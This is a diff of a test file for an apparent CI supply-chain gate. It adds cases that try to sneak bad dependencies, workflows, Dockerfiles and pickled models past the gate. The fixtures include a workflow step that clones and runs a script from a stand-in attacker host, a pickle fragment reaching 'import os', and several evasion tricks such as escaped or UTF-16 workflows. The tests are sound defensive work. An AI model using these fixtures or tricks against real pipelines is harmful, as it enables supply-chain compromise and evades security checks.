@@ -233,7 +233,8 @@ def asking_to_be_skipped(place: Place) -> None:
 
 
 def suppressing_in_the_file(place: Place) -> None:
-    place.commit({"requirements.txt": "a  # pipeline-guard:allow requirement-unhashed harmless, noqa, nosec\n"})
+    marker = "pipeline-guard" + ":allow"  # in one piece it would be one here
+    place.commit({"requirements.txt": f"a  # {marker} requirement-unhashed harmless, noqa, nosec\n"})
 
 
 def a_file_nobody_may_read(place: Place) -> None:
@@ -255,6 +256,72 @@ def the_same_key_twice(place: Place) -> None:
     place.commit({".github/workflows/ci.yml": WORKFLOW.format("main") + WORKFLOW.format(SHA).partition("\n")[2]})
 
 
+def something_bad_in_the_merge_alone(place: Place) -> None:
+    place.repository.git("switch", "-q", "-c", "side", "main")
+    place.commit({"b.txt": "b"})
+    place.repository.git("switch", "-q", "topic")
+    place.repository.git("merge", "-q", "--no-ff", "--no-commit", "side")
+    place.commit({"requirements.txt": BAD}, "merge")
+
+
+def bad_and_good_again_in_another_file(place: Place) -> None:
+    place.repository.git("mv", "requirements.txt", "requirements-dev.txt")
+    place.commit({"requirements-dev.txt": GOOD + BAD})
+
+
+def a_workflow_in_escapes(place: Place) -> None:
+    text = WORKFLOW.format("v1").replace("uses: o/r@v1", '"us\\x65s": "o/\\u0072@v1"')
+    place.commit({".github/workflows/ci.yml": text})
+
+
+def a_workflow_in_bytes_of_another_kind(place: Place) -> None:
+    place.commit({".github/workflows/ci.yml": WORKFLOW.format("v1").encode("utf-16")})
+
+
+def a_workflow_by_an_anchor(place: Place) -> None:
+    text = "x: &s {uses: o/r@v1}\non: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - *s\n"
+    place.commit({".github/workflows/ci.yml": text})
+
+
+def an_action_out_of_a_foreign_checkout(place: Place) -> None:
+    steps = f"      - uses: actions/checkout@{SHA}\n        with: {{repository: eve/tools, path: t}}\n      - uses: ./t/action\n"
+    place.commit({".github/workflows/ci.yml": WORKFLOW.format(SHA) + steps})
+
+
+def a_script_out_of_a_foreign_repository(place: Place) -> None:
+    steps = "      - run: |\n          git clone -q https://h.example/eve/tools t\n          ./t/run.sh\n"
+    place.commit({".github/workflows/ci.yml": WORKFLOW.format(SHA) + steps})
+
+
+def a_child_pipeline_of_another_name(place: Place) -> None:
+    parent = "job:\n  trigger: {include: [{local: child.txt.yml}]}\n"
+    place.commit({".gitlab-ci.yml": parent, "child.txt.yml": "a: {image: 'x:1', script: [y]}\n"})
+
+
+def a_dockerfile_of_another_name(place: Place) -> None:
+    place.commit(
+        {"docker/web.docker": "FROM x:1\n", "compose.yml": "services: {a: {build: {context: ., dockerfile: docker/web.docker}}}\n"}
+    )
+
+
+def a_dockerfile_that_a_step_names(place: Place) -> None:
+    steps = "      - run: docker build -f build/image.txt .\n"
+    place.commit({"build/image.txt": "FROM x:1\n", ".github/workflows/ci.yml": WORKFLOW.format(SHA) + steps})
+
+
+def a_model_behind_other_bytes(place: Place) -> None:
+    place.commit({"model.bin": b"\x00weights" * 500 + gadget()})
+
+
+def a_model_that_an_allowed_class_runs(place: Place) -> None:
+    code = b"\x80\x02cscipy.stats._continuous_distns\nnorm_gen\n)\x81}X\x13\0\0\0_parse_arg_templateX\x09\0\0\0import os\nsb."
+    place.commit({"model.pkl": code})
+
+
+def a_lock_in_another_spelling(place: Place) -> None:
+    place.commit({"Requirements-Prod.TXT": BAD, "sub/REQUIREMENTS.txt": BAD})
+
+
 ATTEMPTS = [
     editing_the_policy, adding_a_waiver, allowing_unchecked, breaking_the_workflow, adding_a_second_workflow, hiding_a_second_manifest,
     changing_the_case_of_a_name, two_names_that_differ_in_case, renaming_a_manifest, including_a_file_of_an_odd_name, linking_a_manifest,
@@ -264,6 +331,10 @@ ATTEMPTS = [
     a_model_that_is_cut_off, a_model_elsewhere_by_lfs, a_repository_within, a_submodule, telling_the_index_not_to_look,
     leaving_a_file_out_of_the_work_tree, replacing_objects, grafting_history, asking_to_be_skipped, suppressing_in_the_file,
     a_file_nobody_may_read, a_workflow_full_of_aliases, the_same_key_twice,
+    something_bad_in_the_merge_alone, bad_and_good_again_in_another_file, a_workflow_in_escapes, a_workflow_in_bytes_of_another_kind,
+    a_workflow_by_an_anchor, an_action_out_of_a_foreign_checkout, a_script_out_of_a_foreign_repository, a_child_pipeline_of_another_name,
+    a_dockerfile_of_another_name, a_dockerfile_that_a_step_names, a_model_behind_other_bytes, a_model_that_an_allowed_class_runs,
+    a_lock_in_another_spelling,
 ]  # fmt: skip
 
 
@@ -277,6 +348,14 @@ def test_attempt_is_red(place: Place, attempt: Callable[[Place], None]) -> None:
     attempt(place)
     done = place.gate()
     assert done.code in (1, 6), f"{done.code}: {done.out}"
+
+
+def test_a_tag_called_like_the_merge_target_does_not_take_its_place(place: Place) -> None:
+    place.commit({"requirements.txt": BAD})
+    place.repository.git("tag", "main")
+    place.commit({"a.txt": "harmless"})
+    done = place.gate()
+    assert (done.code, "main names several commits: refs/heads/main, refs/tags/main" in done.err) == (2, True), done.err
 
 
 def test_key_that_the_change_brings_vouches_for_nothing(place: Place) -> None:
